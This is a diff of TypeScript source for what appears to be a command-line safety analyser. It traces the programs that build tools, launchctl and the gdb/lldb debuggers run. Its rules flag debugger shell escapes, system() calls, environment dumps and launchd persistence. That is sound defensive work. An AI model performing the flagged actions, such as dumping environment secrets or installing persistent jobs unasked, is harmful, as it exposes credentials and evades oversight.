+    if (!CARGO_PROGRAM_ENV.test(name)) continue;
+    const v = call.env(name);
+    if (v === null) runs.push({ kind: 'opaque', rule: 'dynamic-command', word: at, why: `cargo runs $${name}, which is computed` });
+    else if (v !== undefined && v !== '') runs.push(programRun(attached(at, v), `cargo $${name}`));
+  }
+  for (const name of ['RUSTFLAGS', 'CARGO_ENCODED_RUSTFLAGS', 'CARGO_BUILD_RUSTFLAGS']) {
+    const v = call.env(name);
+    if (v === null || (v !== undefined && /linker|plugin|link-arg/.test(v))) runs.push({ kind: 'opaque', rule: 'dynamic-command', word: at, why: `cargo hands rustc $${name}, which names a linker` });
+  }
+  return { runs };
+}
+
+/** go build/test/run/vet: -toolexec, -exec and -vettool name programs it runs (also in $GOFLAGS); $CC and $CXX for cgo. */
+function go(call: Call): Partial<Answer> {
+  const runs: Run[] = [];
+  const args = call.args;
+  const at = args[0] ?? literal('go', { start: 0, end: 0 });
+  const flag = (word: Word, v: string, next: Word | undefined, via: string): boolean => {
+    const m = /^--?(toolexec|exec|vettool)(?:=([\s\S]*))?$/.exec(v);
+    if (!m) return false;
+    const w = m[2] !== undefined ? attached(word, m[2]) : next;
+    if (w) runs.push(programRun(w, `${via} -${m[1]}`));
+    return m[2] === undefined;
+  };
+  for (let i = 0; i < args.length; i++) {
+    const v = value(args[i]);
+    if (v === '--') break;
+    if (v !== undefined && flag(args[i]!, v, args[i + 1], 'go')) i++;
+  }
+  const goflags = call.env('GOFLAGS');
+  if (goflags === null) runs.push({ kind: 'opaque', rule: 'dynamic-command', word: at, why: 'go reads flags from $GOFLAGS, which is computed' });
+  else if (goflags !== undefined) {
+    const words = goflags.split(/\s+/).filter((x) => x !== '');
+    for (const w of words) flag(attached(at, w), w, undefined, 'go $GOFLAGS');
+  }
+  for (const name of ['CC', 'CXX', 'GOGCCFLAGS', 'CGO_LDFLAGS', 'PKG_CONFIG', 'GOTOOLCHAIN']) {
+    const v = call.env(name);
+    if (v === null) runs.push({ kind: 'opaque', rule: 'dynamic-command', word: at, why: `go reads $${name}, which is computed` });
+    else if (v !== undefined && (name === 'CC' || name === 'CXX' || name === 'PKG_CONFIG')) runs.push(programRun(attached(at, v), `go $${name}`));
+    else if (v !== undefined && name === 'CGO_LDFLAGS' && /-fuse-ld|--ld-path|-B/.test(v)) runs.push({ kind: 'opaque', rule: 'dynamic-command', word: at, why: 'go hands the linker flags naming another linker' });
+  }
+  return { runs };
+}
+
+/** mvn exec:exec runs -Dexec.executable with -Dexec.args; other plugins run what the POM says (out of scope). */
+function mvn(call: Call): Partial<Answer> {
+  const args = call.args;
+  const vals = args.map((a) => value(a));
+  if (!vals.some((v) => v !== undefined && /^(?:org\.codehaus\.mojo:)?exec(?:-maven-plugin)?(?::[\w.-]+)?:exec(?:@\S+)?$/.test(v))) return {};
+  const prop = (name: string): { word: Word; text: string | undefined } | undefined => {
+    for (let i = 0; i < args.length; i++) {
+      const v = vals[i];
+      if (v === undefined) {
+        if (args[i]!.text.includes(name)) return { word: args[i]!, text: undefined };
+        continue;
+      }
+      // PowerShell hands `-Dexec.executable=x` over as `-Dexec` `.executable=x`: one property still.
+      const split = /^-D[\w-]+$/.test(v) && vals[i + 1]?.startsWith('.');
+      const w = split ? `${v.slice(2)}${vals[i + 1]}` : v.startsWith('-D') ? (v === '-D' ? vals[i + 1] : v.slice(2)) : undefined;
+      const word = v === '-D' || split ? args[i + 1] : args[i];
+      if (w?.startsWith(`${name}=`) && word) return { word, text: w.slice(name.length + 1) };
+    }
+    return undefined;
+  };
+  const exe = prop('exec.executable');
+  if (!exe) return {};
+  if (exe.text === undefined) return { runs: [{ kind: 'opaque', rule: 'dynamic-command', word: exe.word, why: 'mvn exec:exec runs a computed executable' }] };
+  const extra = prop('exec.args');
+  return { runs: [programRun(attached(exe.word, `${exe.text} ${extra?.text ?? ''}`.trim()), 'mvn exec:exec')] };
+}
+
+/** bazel run/test --run_under=PREFIX runs PREFIX (a command, unless it names a target) before the binary. */
+function bazel(call: Call): Partial<Answer> {
+  const runs: Run[] = [];
+  const args = call.args;
+  for (let i = 0; i < args.length; i++) {
+    const v = value(args[i]);
+    if (v === '--') break;
+    if (v === undefined) continue;
+    const m = /^--(?:run_under|test_wrapper|script_path)(?:=([\s\S]*))?$/.exec(v);
+    if (!m) continue;
+    const w = m[1] !== undefined ? attached(args[i]!, m[1]) : args[++i];
+    if (!w) continue;
+    if (v.startsWith('--script_path')) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: w, why: 'bazel run --script_path writes a script that runs the target' });
+    else if (!/^(?:\/\/|@|:)/.test(value(w) ?? '')) runs.push(programRun(w, 'bazel --run_under'));
+  }
+  return { runs };
+}
+
+/** ninja: a build file on stdin (`-f /dev/stdin`) is read as a written one is (src/programs/entries/project.ts). */
+function ninja(call: Call): Partial<Answer> {
+  const p = parse(call.args, { order: 'gnu', flags: 'nvh', valued: 'Cfjkltdw', long: ['version', 'verbose', 'quiet'] });
+  const f = p.options.find((o) => o.name === 'f')?.value;
+  if (!f || !isStdinPath(value(f))) return {};
+  if (call.stdin?.kind === 'static') return { runs: ninjaText(call.stdin.text, call.stdin.word, 'stdin') };
+  if (call.stdin?.kind === 'stream') return { runs: [{ kind: 'opaque', rule: 'stream-to-shell', word: f, why: `ninja reads its build file from ${call.stdin.why}` }] };
+  return {};
+}
+
+/** just --command CMD… runs CMD (through --shell with --shell-command); --shell names the program recipes run in. */
+function just(call: Call): Partial<Answer> {
+  const runs: Run[] = [];
+  const args = call.args;
+  const shellCommand = args.some((a) => value(a) === '--shell-command');
+  for (let i = 0; i < args.length; i++) {
+    const v = value(args[i]);
+    if (v === undefined) continue;
+    const m = /^(?:--(command|shell|shell-arg)(?:=([\s\S]*))?|-(c))$/.exec(v);
+    if (!m) continue;
+    const name = m[1] ?? 'command';
+    if (name === 'command') {
+      const rest = m[2] !== undefined ? [attached(args[i]!, m[2]), ...args.slice(i + 1)] : args.slice(i + 1);
+      if (rest.length > 0) runs.push(shellCommand ? { kind: 'script', dialect: 'bash', words: rest, via: 'just --command' } : { kind: 'argv', argv: rest, via: 'just --command' });
+      break;
+    }
+    const w = m[2] !== undefined ? attached(args[i]!, m[2]) : args[++i];
+    if (w && name === 'shell') runs.push(programRun(w, 'just --shell'));
+    else if (w) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: w, why: 'just --shell-arg changes how recipes run' });
+  }
+  return { runs };
+}
+
+/**
+ * launchctl (macOS): `submit … -- CMD`, `asuser UID CMD`, `bsexec PID CMD` run a command (submit keeps it running);
+ * `load`/`bootstrap` of a plist and `setenv` install what launchd runs later.
+ */
+function launchctl(call: Call): Partial<Answer> {
+  const args = call.args;
+  const sub = value(args[0]);
+  if (sub === 'submit') {
+    const dash = args.findIndex((a) => value(a) === '--');
+    if (dash >= 0) return { runs: dash + 1 < args.length ? [{ kind: 'argv', argv: args.slice(dash + 1), via: 'launchctl submit' }] : [] };
+    const p = parse(args.slice(1), { order: 'posix', valued: 'lpoe' });
+    const cmd = args.slice(1 + p.rest);
+    return { runs: cmd.length > 0 ? [{ kind: 'argv', argv: cmd, via: 'launchctl submit' }] : [] };
+  }
+  if ((sub === 'asuser' || sub === 'bsexec') && args.length > 2) return { runs: [{ kind: 'argv', argv: args.slice(2), via: `launchctl ${sub}` }] };
+  if (sub === 'load' || sub === 'bootstrap' || sub === 'setenv' || sub === 'enable' || sub === 'config') {
+    const operands = args.slice(1).filter((a) => !(value(a) ?? '').startsWith('-'));
+    return { persists: operands.slice(0, 1).map((word) => ({ word, why: `launchctl ${sub} installs what launchd runs later` })) };
+  }
+  return {};
+}
+
+/** Yarn Berry's `yarn node ARGS` runs node with them. */
+function yarnNode(call: Call): Partial<Answer> {
+  const at = call.args.findIndex((a) => !(value(a) ?? '-').startsWith('-'));
+  if (at < 0 || value(call.args[at]) !== 'node') return {};
+  return { runs: [{ kind: 'argv', argv: call.args.slice(at), via: 'yarn node' }] };
+}
+
+/** gdb's options as its getopt_long_only reads them: one or two dashes, unique prefixes, no bundles. */
+const GDB: OptionSpec = {
+  order: 'gnu',
+  singleDash: true,
+  flags: 'nqwf',
+  valued: 'xcpesdbliDt',
+  long: ['args', 'batch', 'batch-silent', 'quiet', 'silent', 'nx', 'nh', 'nw', 'tui', 'write', 'readnow', 'readnever', 'version', 'help', 'return-child-result', 'statistics', 'configuration', 'fullname', 'dbx', 'epoch', 'async', 'noasync'],
+  longValued: ['eval-command', 'ex', 'init-eval-command', 'iex', 'command', 'init-command', 'ix', 'pid', 'core', 'exec', 'symbols', 'se', 'directory', 'data-directory', 'cd', 'tty', 'interpreter', 'baud', 'annotate'],
+};
+
+/** What gdb does: `--args` runs its tail; -ex/-iex and the command files and stdin it reads are debugger commands. */
+function gdb(call: Call): Partial<Answer> {
+  const args = call.args;
+  // `--args` (any spelling) ends gdb's options: the program and its arguments follow.
+  const argsAt = args.findIndex((a) => /^--?args$/.test(value(a) ?? ''));
+  const own = argsAt < 0 ? args : args.slice(0, argsAt);
+  const p = parse(own, GDB);
+  if (has(p, 'version', 'help', 'configuration')) return {};
+  const answer: Partial<Answer> & { runs: Run[]; uses: NonNullable<Answer['uses']> } = { runs: [], uses: [] };
+  if (argsAt >= 0 && argsAt + 1 < args.length) answer.runs.push({ kind: 'argv', argv: args.slice(argsAt + 1), via: 'gdb --args' });
+  const program = argsAt >= 0 ? args[argsAt + 1] : (p.options.find((o) => o.name === 'exec' || o.name === 'e')?.value ?? p.operands[0]?.word);
+  const session = new DebuggerSession('gdb', program, answer);
+  let stdinRead = false;
+  for (const o of p.options) {
+    if (o.unknown && o.value) answer.runs.push({ kind: 'opaque', rule: 'dynamic-script', word: o.value, why: 'gdb option with a computed value' });
+    if (!o.value) continue;
+    if (['eval-command', 'ex', 'init-eval-command', 'iex'].includes(o.name)) session.command(o.value, `gdb --${o.name}`);
+    else if (['command', 'init-command', 'ix', 'x'].includes(o.name)) {
+      if (isStdinPath(value(o.value))) stdinRead = true;
+      else if (value(o.value) === undefined) answer.runs.push({ kind: 'opaque', rule: 'dynamic-script', word: o.value, why: 'gdb reads commands from a computed file' });
+      else answer.runs.push(commandFile('gdb', program, o.value, `gdb -${o.name}`));
+    }
+  }
+  // gdb reads commands from its stdin after the options' (without -batch, or when -x names it).
+  if (stdinRead || !has(p, 'batch', 'batch-silent')) {
+    if (call.stdin?.kind === 'static') for (const line of call.stdin.text.split('\n')) session.command(attached(call.stdin.word, line), 'gdb (stdin)');
+    else if (call.stdin?.kind === 'stream') answer.runs.push({ kind: 'opaque', rule: 'stream-to-shell', word: args[0] ?? literal('gdb', { start: 0, end: 0 }), why: `gdb reads debugger commands from ${call.stdin.why}` });
+  }
+  session.end();
+  return answer;
+}
+
+/** lldb's options (LLVM's parser: `--one-line=X`, `-o X`, `-oX`). */
+const LLDB: OptionSpec = {
+  order: 'posix',
+  flags: 'bxXQwevhPZ',
+  valued: 'fcpnoOkKsSalrRL',
+  long: ['batch', 'no-lldbinit', 'no-use-colors', 'source-quietly', 'wait-for', 'editor', 'version', 'help', 'python-path', 'debug', 'repl', 'local-lldbinit', 'print-script-interpreter-info'],
+  longValued: ['file', 'core', 'attach-pid', 'attach-name', 'one-line', 'one-line-before-file', 'one-line-on-crash', 'source-on-crash', 'source', 'source-before-file', 'arch', 'script-language', 'repl-language', 'capture-path'],
+};
+
+/** What lldb does: its target runs with the arguments after `--`; -o/-O/-k and -s stdin are debugger commands. */
+function lldb(call: Call): Partial<Answer> {
+  const args = call.args;
+  const dash = args.findIndex((a) => value(a) === '--');
+  const own = dash < 0 ? args : args.slice(0, dash);
+  const tail = dash < 0 ? [] : args.slice(dash + 1);
+  const p = parse(own, { ...LLDB, order: 'gnu' });
+  if (has(p, 'version', 'help', 'v', 'h')) return {};
+  const answer: Partial<Answer> & { runs: Run[]; uses: NonNullable<Answer['uses']> } = { runs: [], uses: [] };
+  const target = p.options.find((o) => o.name === 'f' || o.name === 'file')?.value ?? p.operands[0]?.word;
+  // `lldb -- prog args`: the first word after `--` is the target when none came before.
+  const argv = target ? [target, ...tail] : tail;
+  if (argv.length > 0) answer.runs.push({ kind: 'argv', argv, via: 'lldb' });
+  const session = new DebuggerSession('lldb', undefined, answer);
+  for (const o of p.options) {
+    if (!o.value) continue;
+    if (['o', 'O', 'k', 'one-line', 'one-line-before-file', 'one-line-on-crash'].includes(o.name)) session.command(o.value, `lldb --${o.name}`);
+    else if (['s', 'S', 'K', 'source', 'source-before-file', 'source-on-crash'].includes(o.name)) {
+      const v = value(o.value);
+      if (isStdinPath(v) && call.stdin?.kind === 'static') for (const line of call.stdin.text.split('\n')) session.command(attached(call.stdin.word, line), 'lldb -s (stdin)');
+      else if (isStdinPath(v) || v === undefined) answer.runs.push({ kind: 'opaque', rule: 'dynamic-script', word: o.value, why: 'lldb reads commands from its input or a computed file' });
+      else answer.runs.push(commandFile('lldb', target, o.value, `lldb -${o.name}`));
+    }
+  }
+  session.end();
+  return answer;
+}
+
+/** A file of debugger commands (`gdb -x FILE`, `lldb -s FILE`): out of scope, unless the line wrote it; then read as -ex is. */
+function commandFile(tool: 'gdb' | 'lldb', program: Word | undefined, file: Word, via: string): Run {
+  const read = (text: string, word: Word): Run[] => {
+    const answer: { runs: Run[]; uses: NonNullable<Answer['uses']> } = { runs: [], uses: [] };
+    const session = new DebuggerSession(tool, program, answer);
+    for (const line of text.split('\n')) session.command(attached(word, line), via);
+    session.end();
+    // A file its commands write stands as a write the rules cannot place here: cannot-vouch.
+    if (answer.uses.length > 0) answer.runs.push({ kind: 'opaque', rule: 'dynamic-script', word, why: `${via}: its commands write files` });
+    return answer.runs;
+  };
+  return { kind: 'project', file, files: /$^/, read, word: file, via };
+}
+
+/** Debugger commands as gdb and lldb read them, one at a time, with what they set that later ones use. */
+class DebuggerSession {
+  private logFile: Word | undefined;
+  private logging = false;
+
+  constructor(
+    private readonly tool: 'gdb' | 'lldb',
+    private readonly program: Word | undefined,
+    private readonly answer: { runs: Run[]; uses: NonNullable<Answer['uses']>; dumps?: string },
+  ) {}
+
+  command(word: Word, via: string): void {
+    const runs = this.answer.runs;
+    const v = value(word);
+    if (v === undefined) {
+      runs.push({ kind: 'opaque', rule: 'dynamic-script', word, why: `${via} with a computed debugger command` });
+      return;
+    }
+    const t = v.trim();
+    if (t === '' || t.startsWith('#')) return;
+    // `!cmd`, `shell cmd` (`she`), `platform shell cmd`: shell text.
+    const sh = /^(?:!|(?:she|shel|shell)(?:\s+|$)|(?:platform|pla\w*)\s+(?:sh|she|shel|shell)(?:\s+|$))([\s\S]*)$/.exec(t);
+    if (sh) {
+      runs.push({ kind: 'text', dialect: 'bash', text: sh[1]!, word, via });
+      return;
+    }
+    // `pipe CMD | SHELL`, `| CMD | SHELL`, `pipe -d DELIM CMD DELIM SHELL`: the shell text after the delimiter.
+    const pipe = /^(?:\||pip|pipe)(?:\s+|(?=\|)|$)([\s\S]*)$/.exec(t);
+    if (pipe && this.tool === 'gdb') {
+      const rest = pipe[1]!;
+      const d = /^-d\s+(\S+)\s/.exec(rest);
+      const delim = d ? d[1]! : '|';
+      const body = d ? rest.slice(d[0].length) : rest;
+      const at = body.indexOf(delim);
+      runs.push({ kind: 'text', dialect: 'bash', text: at < 0 ? body : body.slice(at + delim.length), word, via });
+      return;
+    }
+    const [head = '', ...more] = t.split(/\s+/);
+    const rest = t.slice(head.length).trim();
+    // Interpreters, formatted commands, user commands and aliases: what runs cannot be followed.
+    if (/^(?:python|py|pi|python-interactive|guile|gu|gr|guile-repl|script|eval|ev|eva|define|def|alias|command|source|so|sou|sour|sourc|document|interpreter-exec|compile|expression|expr|e|p|print|call|target|tar|targ|targe)$/.test(head)) {
+      // `print`/`call` evaluate expressions in the program, which may call system(); the target's code is not ours to read.
+      if (/^(?:p|print|call|expr|expression|e)$/.test(head) && !/\b(?:system|popen|exec\w*|fork|dlopen|\$_shell|\$_as_string)\b|\$_shell/.test(rest)) return;
+      if (/^(?:target|tar|targ|targe)$/.test(head) && !rest.includes('|')) return;
+      runs.push({ kind: 'opaque', rule: 'dynamic-script', word, why: `${via} ${head} runs code or commands vouch does not follow` });
+      return;
+    }
+    // `run ARGS`, `start`, `starti`, `process launch -- ARGS`: the program, through the shell with its arguments.
+    if (/^(?:r|ru|run|start|starti)$/.test(head) || (head === 'process' && more[0] === 'launch')) {
+      if (this.program) {
+        const prog = value(this.program);
+        const args = head === 'process' ? rest.replace(/^launch\s*(?:--\s*)?/, '') : rest;
+        if (prog === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-command', word: this.program, why: `${via} runs a computed program` });
+        else runs.push({ kind: 'text', dialect: 'bash', text: `${shellQuote(prog)} ${args}`, word, via });
+      }
+      return;
+    }
+    // `show environment [VAR]`: the inferior's environment, which is gdb's own.
+    const env = /^(?:sho|show|info|i)\s+(?:env|envi|envir|enviro|environ|environm|environme|environmen|environment)\b\s*(\S*)/.exec(t);
+    if (env || /^(?:settings\s+show\s+target\.env|env$)/.test(t)) {
+      if (env?.[1]) runs.push({ kind: 'text', dialect: 'bash', text: `printenv ${env[1]}`, word, via });
+      else this.answer.dumps = `${via} ${t} prints the environment`;
+      return;
+    }
+    // `set logging file F`, then `set logging on|enabled on`: gdb appends its output to F.
+    const log = /^set\s+(?:lo|log|logg|loggi|loggin|logging)\s+(\S+)\s*(.*)$/.exec(t);
+    if (log) {
+      if (/^f/.test(log[1]!)) this.logFile = attached(word, log[2]!.trim());
+      else if (/^(?:on|en|ena\w*)$/.test(log[1]!) && !/^off/.test(log[2]!)) this.logging = true;
+      return;
+    }
+    // Commands that write the file they name.
+    const write = /^(?:dump|append|gcore|generate-core-file|save\s+\w+|set\s+history\s+filename)\s+(?:(?:binary|ihex|srec|tekhex|verilog|value|memory|memory\s+\S+)\s+)*(\S+)/.exec(t);
+    if (write && this.tool === 'gdb') {
+      this.answer.uses.push({ word: attached(word, write[1]!), role: 'write' });
+      return;
+    }
+  }
+
+  end(): void {
+    if (this.logging) this.answer.uses.push({ word: this.logFile ?? literal('gdb.txt', { start: 0, end: 0 }), role: 'write' });
+  }
 }
 
 export type { Sub };
